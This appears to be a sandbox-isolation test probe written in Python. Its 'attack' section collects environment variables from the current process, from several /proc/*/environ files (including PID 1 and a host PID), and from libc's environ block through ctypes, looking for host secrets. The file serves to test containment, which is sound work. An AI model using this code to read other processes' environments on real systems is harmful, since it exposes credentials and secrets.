"""Looks for the host's environment in the guest's own, in `/proc`, and in the memory that a zygote left.

Escape: the environment canary, or the PATH of the host
Control: the guest's own HOME is set
"""

# control
import os

os.path.samefile(os.environ["HOME"], ".")

# attack
import ctypes

loot = [dict(os.environ)]
for path in (
    "/proc/self/environ",
    "/proc/1/environ",
    f"/proc/{places['host_pid']}/environ",
    "/proc/thread-self/environ",
):
    try:
        loot.append(open(path, "rb").read())
    except OSError as error:
        loot.append(error.errno)
# The block that the kernel gave the zygote at its start lies just below the top of the stack.
environ = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value
block = ctypes.cast(environ, ctypes.POINTER(ctypes.c_char_p))
i = 0
while block[i]:
    loot.append(block[i])
    i += 1
loot
